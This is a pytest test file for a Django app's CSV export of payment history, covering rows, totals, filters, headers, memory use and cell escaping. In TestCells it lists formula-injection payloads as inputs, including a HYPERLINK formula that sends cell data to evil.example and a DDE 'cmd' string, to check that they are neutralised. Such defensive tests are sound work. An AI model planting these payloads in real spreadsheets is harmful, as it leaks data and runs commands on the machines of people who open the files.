"""The history as a spreadsheet: every part of every event, inert cells, flat memory."""

import csv
import io
import tracemalloc
from collections.abc import Iterable

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import translation

from billing.models import BillingAccount, Invoice
from billing.services import invoices
from common.csv_export import dollars, safe_cell
from demo.stripe.core import Sandbox
from payments import history
from payments.history_filter import HistoryFilter
from tests.support import paying
from tests.support.factories import make_account, make_invoice, make_member
from tests.support.history import dispute, make_many_payments, refund

pytestmark = pytest.mark.django_db
URL = "/payments/history.csv"


@pytest.fixture
def account() -> BillingAccount:
    return make_account(make_member(first_name="Ana", last_name="Núñez"))


@pytest.fixture
def ana(account: BillingAccount) -> Client:
    client = Client()
    client.force_login(account.guarantor.user)
    return client


def rows_of(response: StreamingHttpResponse) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(text)))


def cents(cells: Iterable[str]) -> int:
    return sum(int(cell.replace(".", "")) for cell in cells)


class TestWhatItHolds:
    def test_a_row_for_each_bill_of_each_event_with_the_sums_of_the_page(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        knee = make_invoice(account, 1_042_10, number="NC-417", provider="Lake Clinic")
        plan = make_invoice(account, 312_07, kind=Invoice.Kind.PREMIUM, provider="")
        paid = paying.pay_many(sandbox, {knee: 1_000_00})
        paying.pay(sandbox, plan)
        paying.add_money(sandbox, account, 50_00)
        refund(paid, 42_10)
        dispute(paid, 100_01)

        rows = rows_of(ana.get(URL))  # type: ignore[arg-type]

        assert [(row["What"], row["Amount (USD)"]) for row in rows] == [
            ("Disputed payment", "100.01"),
            ("Refund", "42.10"),
            ("Money added to the account balance", "50.00"),
            ("Payment", "312.07"),
            ("Payment", "1000.00"),
        ]
        totals = history.around(
            account, HistoryFilter(), chart_from=knee.due_on, chart_to=knee.due_on
        ).totals
        assert cents(row["Of that, paid"] for row in rows) == totals.paid_cents + totals.added_cents
        assert cents(row["Of that, come back"] for row in rows) == 142_11
        first = rows[-1]
        assert (first["Bill"], first["Kind"], first["Provider"], first["Patient"]) == (
            "NC-417",
            "Medical",
            "Lake Clinic",
            "Ana Núñez",
        )
        assert first["Payment"] == first["Reference"] == paid.reference
        assert first["Payment method"] == "Visa ending in 4242"

    def test_what_paid_a_canceled_bill_has_its_row(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        knee = make_invoice(account, 60_00, number="NC-417")
        paying.pay(sandbox, knee)
        invoices.void(invoice=knee)
        credit, _paid = rows_of(ana.get(URL))  # type: ignore[arg-type]
        assert credit["What"] == "Credit to the account balance"
        assert (credit["Bill"], credit["Reference"], credit["Payment"]) == ("NC-417", "NC-417", "")
        assert (credit["Payment method"], credit["Paid by a guest"]) == ("", "")
        assert (credit["Amount (USD)"], credit["Of that, come back"]) == ("60.00", "60.00")

    @pytest.mark.parametrize("decided", [None, "won"])
    def test_what_a_bank_holds_of_two_bills_is_the_amount_of_neither(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client, decided: str | None
    ) -> None:
        knee, scan = make_invoice(account, 100_00), make_invoice(account, 50_00)
        one = paying.pay(sandbox, make_invoice(account, 30_00))
        two = paying.pay_many(sandbox, {knee: 100_00, scan: 50_00})
        for payment, held in ((one, 20_00), (two, 150_00)):
            dispute(payment, held, status="needs_response")
            if decided:
                dispute(payment, held, status=decided)
        rows = rows_of(ana.get(URL, {"kind": "dispute"}))  # type: ignore[arg-type]
        assert [(row["Payment"], row["Amount (USD)"]) for row in rows] == [
            (two.reference, ""),
            (two.reference, ""),
            (one.reference, "20.00"),
        ]
        assert {(row["Of that, paid"], row["Of that, come back"]) for row in rows} == {("0.00", "0.00")}

    def test_filters_narrow_it_as_they_narrow_the_page(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        paying.pay(sandbox, make_invoice(account, 80_00))
        paying.pay(sandbox, make_invoice(account, 300_00, kind=Invoice.Kind.PREMIUM))
        rows = rows_of(ana.get(URL, {"side": "premium"}))  # type: ignore[arg-type]
        assert [row["Amount (USD)"] for row in rows] == ["300.00"]

    def test_what_is_on_its_way_counts_for_nothing(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        paying.confirm(paying.start_checkout(sandbox, make_invoice(account, 80_00)))
        (row,) = rows_of(ana.get(URL))  # type: ignore[arg-type]
        assert (row["Amount (USD)"], row["Of that, paid"]) == ("80.00", "0.00")

    def test_it_is_a_download_that_nobody_keeps_in_the_readers_language(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        paying.pay(sandbox, make_invoice(account, 80_00))
        response = ana.get(URL)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="kppay-history-20')
        assert response["Cache-Control"] == "no-store, private"
        assert response.streaming
        assert next(iter(ana.get(URL).streaming_content)).startswith("﻿".encode())
        with translation.override("es"):
            expected = translation.gettext("Amount (USD)")
        ana.cookies["django_language"] = "es"
        assert expected in rows_of(ana.get(URL))[0]  # type: ignore[arg-type]

    def test_nobody_elses(self, sandbox: Sandbox, ana: Client) -> None:
        paying.pay(sandbox, make_invoice(make_account()))
        assert rows_of(ana.get(URL)) == []  # type: ignore[arg-type]


class TestCells:
    @pytest.mark.parametrize(
        "evil",
        [
            '=HYPERLINK("http://evil.example?"&A1,"x")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "＝1",
        ],
    )
    def test_that_begin_like_a_formula_are_inert(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client, evil: str
    ) -> None:
        paying.pay(sandbox, make_invoice(account, provider=evil, number=f"{evil[:30]}1"))
        (row,) = rows_of(ana.get(URL))  # type: ignore[arg-type]
        assert row["Provider"] == f"'{evil}"
        assert row["Bill"] == f"'{evil[:30]}1"

    @pytest.mark.parametrize("plain", ["Lake Clinic", "1042.10", "", "a=b", "José", "'quoted"])
    def test_others_stay_as_they_are(self, plain: str) -> None:
        assert safe_cell(plain) == plain

    def test_quotes_commas_and_line_breaks_stay_in_their_cell(
        self, sandbox: Sandbox, account: BillingAccount, ana: Client
    ) -> None:
        name = 'Dr. "Bob" O\'Hara, MD;\nSons'
        paying.pay(sandbox, make_invoice(account, provider=name))
        (row,) = rows_of(ana.get(URL))  # type: ignore[arg-type]
        assert row["Provider"] == name

    def test_amounts_are_numbers_and_never_negative(self) -> None:
        assert [dollars(cents) for cents in (0, 5, 1_042_10)] == ["0.00", "0.05", "1042.10"]
        with pytest.raises(ValueError, match="minus sign"):
            dollars(-1)


class TestTenThousandRows:
    """Made while it is sent: memory does not grow with the history."""

    @staticmethod
    def download(account: BillingAccount) -> tuple[int, int]:
        """Rows, and the most bytes that Python held from the click to the last line."""
        browser = Client()
        browser.force_login(account.guarantor.user)
        browser.get(reverse("billing:home"))  # the first request of a session writes it down
        tracemalloc.start()
        try:
            lines = browser.get(URL).streaming_content
            count = sum(line.count(b"\r\n") for line in lines) - 1  # type: ignore[union-attr]
            return count, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_take_no_more_memory_than_one_thousand(self) -> None:
        small, large = make_account(), make_account()
        make_many_payments(small, 1, bills_each=history.EXPORT_CHUNK, times=2)
        make_many_payments(large, 1, bills_each=500, times=20)
        self.download(small)  # what is loaded at first use is loaded
        rows, bytes_of_two_chunks = self.download(small)
        assert rows == 2 * history.EXPORT_CHUNK
        rows, bytes_of_all = self.download(large)
        assert rows == 10_000
        assert bytes_of_all < 1.2 * bytes_of_two_chunks

    def test_stay_at_the_server_until_they_are_asked_for(self, account: BillingAccount) -> None:
        make_many_payments(account, 3)
        rows = history.export(account, HistoryFilter())
        next(rows)
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors WHERE name LIKE '_django_curs_%'")
            assert cursor.fetchone() == (1,)
        assert sum(1 for _ in rows) == 2


def test_the_page_links_to_its_export_with_the_same_filters(
    sandbox: Sandbox, account: BillingAccount, ana: Client
) -> None:
    paying.pay(sandbox, make_invoice(account))
    page = ana.get(reverse("payments:history"), {"kind": "payment", "page": "1"}).content.decode()
    assert f'href="{URL}?kind=payment"' in page
